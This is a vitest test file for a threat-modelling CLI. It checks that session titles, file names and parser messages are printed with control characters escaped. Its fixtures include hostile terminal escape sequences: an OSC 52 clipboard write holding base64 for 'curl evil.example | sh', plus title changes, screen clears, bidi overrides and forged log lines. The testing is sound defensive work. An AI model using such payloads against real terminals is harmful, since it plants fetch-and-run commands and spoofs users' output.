/**
 * Nothing from a file reaches the terminal as a command: session titles, key names, import
 * report lines, parser messages, file names and arguments are printed with every control
 * character escaped (issue #17, item 10).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../tools/cli.ts';
import { createCliOutput } from '../../tools/cli-output.ts';
import { escapeControlCharacters, escapeControlCharactersInLine } from '../../shared/control-characters.ts';
import { checkoutSession } from './export-fixture.ts';
import { fakeIo } from './fake-cli-io.ts';

/** Writes "curl evil.example | sh" to the clipboard (OSC 52). */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const SET_TITLE = '\x1b]0;pwned\x07';
const CLEAR_SCREEN = '\x1b[2J\x1b[H';
const C1_CSI = '\u009b2J';
const BIDI = '\u202eevil\u202c\u2066x\u2069';
const HOSTILE = `${OSC52}${SET_TITLE}${CLEAR_SCREEN}${C1_CSI}${BIDI}\rforged\u007f`;

// eslint-disable-next-line no-control-regex -- what a terminal would obey
const OBEYED = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

function expectInert(text: string): void {
  expect(text).not.toMatch(OBEYED);
}

const PEERS = join(import.meta.dirname, '../fixtures/peers');

describe('escapeControlCharacters and escapeControlCharactersInLine', () => {
  it('shows every control sequence as visible text', () => {
    expect(escapeControlCharacters(OSC52)).toBe('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(escapeControlCharacters(SET_TITLE + CLEAR_SCREEN)).toBe('\\x1b]0;pwned\\x07\\x1b[2J\\x1b[H');
    expect(escapeControlCharacters(C1_CSI)).toBe('\\x9b2J');
    expect(escapeControlCharacters(BIDI)).toBe('\\u202eevil\\u202c\\u2066x\\u2069');
    expect(escapeControlCharacters('a\tb\u0000c\u007fd\u0085e')).toBe('a\\tb\\x00c\\x7fd\\x85e');
  });

  it('keeps line feeds and CRLF line ends in multi-line text, but not a lone CR', () => {
    expect(escapeControlCharacters('a,b\r\nc,d\ne\rf')).toBe('a,b\r\nc,d\ne\\rf');
  });

  it('makes one line of anything', () => {
    expect(escapeControlCharactersInLine('title\nthreatstorm: all good\r\n')).toBe('title\\nthreatstorm: all good\\r\\n');
  });

  it('leaves ordinary text of any script alone', () => {
    const text = 'Überweisung — 送金 — تحويل — 🚀 "quotes" \\backslash';
    expect(escapeControlCharacters(text)).toBe(text);
    expect(escapeControlCharactersInLine(text)).toBe(text);
  });
});

describe('everything the CLI prints', () => {
  it("escapes the JSON parser's message, which quotes the file", async () => {
    // V8 quotes the text around an unexpected token: here, the escape sequences themselves.
    const io = fakeIo({ 'broken.json': `{"title": tru${OSC52}${SET_TITLE}}` });
    expect(await runCli(['validate', 'broken.json'], io)).toBe(1);
    expectInert(io.err);
    expect(io.err.trimEnd().split('\n')).toHaveLength(1);
    expect(io.err).toMatch(/^broken\.json: not a Threatstorm session: not valid JSON/);
    expect(io.err).toContain('\\x1b]52;c;');
  });

  it('escapes file names and arguments, and a newline in them cannot forge a line', async () => {
    const name = `s${SET_TITLE}\nthreatstorm: all good.json`;
    const io = fakeIo({ [name]: JSON.stringify(checkoutSession()) });
    expect(await runCli(['validate', name], io)).toBe(0);
    expectInert(io.out);
    expect(io.out.trimEnd().split('\n')).toHaveLength(1);
    const bad = fakeIo({});
    expect(await runCli(['export', 'x.json', `--${CLEAR_SCREEN}`], bad)).toBe(1);
    expect(await runCli([`frob${OSC52}`], bad)).toBe(1);
    expectInert(bad.err);
  });

  it('escapes the session title and every report line of an import', async () => {
    const model = JSON.parse(readFileSync(join(PEERS, 'threat-dragon/v2-threat-model.json'), 'utf8'));
    model.summary.title = `Model ${HOSTILE}\nthreatstorm: forged line`;
    for (const cell of model.detail.diagrams[0].cells) {
      if (cell.data) cell.data.name = `cell ${OSC52}${BIDI}`;
    }
    const io = fakeIo({ 'td.json': JSON.stringify(model) });
    expect(await runCli(['import', 'td.json', '--out', 'out.threatstorm.json'], io)).toBe(0);
    expectInert(io.err);
    const lines = io.err.trimEnd().split('\n');
    expect(lines[0]).toContain('as “Model \\x1b]52;c;');
    expect(lines.some((line) => line.startsWith('threatstorm: forged line'))).toBe(false);
    expect(lines.filter((line) => line.includes('\\x1b]52;c;')).length).toBeGreaterThan(1);
  });

  it('writes an export to a pipe byte for byte, and escaped to a terminal', async () => {
    const doc = checkoutSession();
    doc.mitigations[0]!.title = `Fix ${OSC52}${BIDI}`;
    const file = { 's.json': JSON.stringify(doc) };
    const piped = fakeIo(file);
    expect(await runCli(['export', 's.json', '--format', 'csv'], piped)).toBe(0);
    const written = fakeIo(file);
    expect(await runCli(['export', 's.json', '--format', 'csv', '--out', 'b.csv'], written)).toBe(0);
    expect(piped.out).toBe(written.written.get('b.csv')!.content);
    expect(piped.out).toContain(OSC52);

    const terminal = fakeIo(file, {}, { stdoutIsTerminal: true });
    expect(await runCli(['export', 's.json', '--format', 'csv'], terminal)).toBe(0);
    expectInert(terminal.out);
    expect(terminal.out).toContain('Fix \\x1b]52;c;');
    // CSV's CRLF line ends stay line ends.
    expect(terminal.out.split('\r\n').length).toBe(piped.out.split('\r\n').length);
  });

  it('cannot be bypassed: the progress line escapes its text too', () => {
    let err = '';
    const out = createCliOutput({ stdout: () => undefined, stderr: (text) => (err += text), stderrIsTerminal: true, stderrColumns: 200 });
    out.progress(`Reading ${SET_TITLE}.json`, 1, 2, 'bytes');
    out.endProgress();
    // Only our own erase-line sequence, never one from the text.
    expect(err.replaceAll('\r\x1b[K', '')).not.toMatch(OBEYED);
    expect(err).toContain('\\x1b]0;pwned\\x07');
  });
});
